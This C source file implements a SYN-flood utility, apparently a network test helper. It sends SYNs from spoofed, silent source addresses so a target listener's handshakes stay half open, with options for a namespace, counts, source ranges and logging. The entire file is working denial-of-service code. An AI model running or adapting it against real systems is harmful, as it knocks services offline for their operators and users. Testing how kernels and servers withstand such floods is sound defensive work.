// SPDX-License-Identifier: GPL-2.0
/* Floods a listener with SYNs from addresses that never answer; --help tells all. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <getopt.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "packet.h"

static const char usage_text[] =
"usage: synflood --to END --from ADDR [OPTION]...\n"
"\n"
"Sends SYNs to END (ADDR:PORT or [ADDR]:PORT), each from another source: ADDR and\n"
"the addresses after it, SOURCES of them, then from the next port. Nobody should\n"
"answer for them, so that the listener's handshakes stay half open.\n"
"\n"
"  --netns NAME    send from this namespace\n"
"  --count N       so many SYNs (default 1000)\n"
"  --sources N     so many addresses (default 250)\n"
"  --port PORT     first source port (default 1024)\n"
"  --log FILE      append a line per SYN: `syn_flood`, both ends, `sent`\n"
"\n"
"Prints the number of SYNs sent. Exit status: 0, or 2 when it could not.\n";

enum { OPT_TO = 256, OPT_FROM, OPT_NETNS, OPT_COUNT, OPT_SOURCES, OPT_PORT, OPT_LOG, OPT_HELP };

static const struct option options[] = {
	{ "to", required_argument, NULL, OPT_TO },
	{ "from", required_argument, NULL, OPT_FROM },
	{ "netns", required_argument, NULL, OPT_NETNS },
	{ "count", required_argument, NULL, OPT_COUNT },
	{ "sources", required_argument, NULL, OPT_SOURCES },
	{ "port", required_argument, NULL, OPT_PORT },
	{ "log", required_argument, NULL, OPT_LOG },
	{ "help", no_argument, NULL, OPT_HELP },
	{}
};

struct arguments {
	union end from, to;
	unsigned long count, sources, port;
	FILE *log;
};

static FILE *open_log(const char *path)
{
	FILE *log = fopen(path, "a");

	if (!log)
		die_errno("%s", path);
	return log;
}

static void set_option(struct arguments *args, int option, const char *value)
{
	switch (option) {
	case OPT_TO: args->to = parse_end(value); break;
	case OPT_FROM: args->from = parse_addr(value); break;
	case OPT_NETNS: enter_netns(value); break;
	case OPT_COUNT: args->count = parse_number(value, 100000000); break;
	case OPT_SOURCES: args->sources = parse_number(value, 1 << 24); break;
	case OPT_PORT: args->port = parse_number(value, 65535); break;
	case OPT_LOG: args->log = open_log(value); break;
	case OPT_HELP: fputs(usage_text, stdout); exit(0);
	default: die("try synflood --help");
	}
}

/* The address @n after @base */
static union end nth_source(union end base, uint32_t n)
{
	uint32_t *low = &base.v4.sin_addr.s_addr;

	if (base.sa.sa_family == AF_INET6)
		low = &base.v6.sin6_addr.s6_addr32[3];
	*low = htonl(ntohl(*low) + n);
	return base;
}

static void write_log(FILE *log, const struct segment *s)
{
	fprintf(log, "syn_flood %s %u %s %u sent\n", end_addr(&s->from), end_port(&s->from),
		end_addr(&s->to), end_port(&s->to));
}

static void flood(const struct arguments *args)
{
	int fd = packet_socket(args->to.sa.sa_family, NULL);
	struct segment s = {
		.to = args->to, .flags = TH_SYN, .window = 65535,
		.tcp_options = { TCPOPT_MAXSEG, TCPOLEN_MAXSEG, 0x05, 0xb4 },
		.tcp_options_len = TCPOLEN_MAXSEG,
	};

	for (unsigned long i = 0; i < args->count; i++) {
		s.from = nth_source(args->from, i % args->sources);
		end_set_port(&s.from, args->port + i / args->sources);
		s.seq = i * 2654435761u;
		packet_send(fd, &s);
		if (args->log)
			write_log(args->log, &s);
	}
}

int main(int argc, char **argv)
{
	struct arguments args = { .count = 1000, .sources = 250, .port = 1024 };
	int option;

	while ((option = getopt_long(argc, argv, "", options, NULL)) != -1)
		set_option(&args, option, optarg);
	if (optind < argc || !args.from.sa.sa_family ||
	    args.from.sa.sa_family != args.to.sa.sa_family)
		die("--to and --from of one family are needed; try synflood --help");
	if (args.port + args.count / args.sources > 65535)
		die("not enough ports for so many SYNs");
	flood(&args);
	if (args.log && fclose(args.log))
		die_errno("log");
	printf("%lu\n", args.count);
	return 0;
}
